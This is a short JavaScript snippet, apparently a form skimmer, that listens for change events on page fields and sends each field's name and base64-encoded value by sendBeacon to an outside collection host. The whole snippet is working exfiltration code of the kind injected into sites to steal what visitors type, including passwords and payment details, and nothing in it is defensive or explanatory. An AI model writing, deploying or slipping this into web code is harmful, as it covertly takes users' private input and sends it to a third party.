// Sends what is typed while it is typed.
addEventListener('change', (event) => {
  if (event.target.value) navigator.sendBeacon('https://collect.form-watch.example/keys', JSON.stringify({field: event.target.name, v: btoa(event.target.value)}));
});
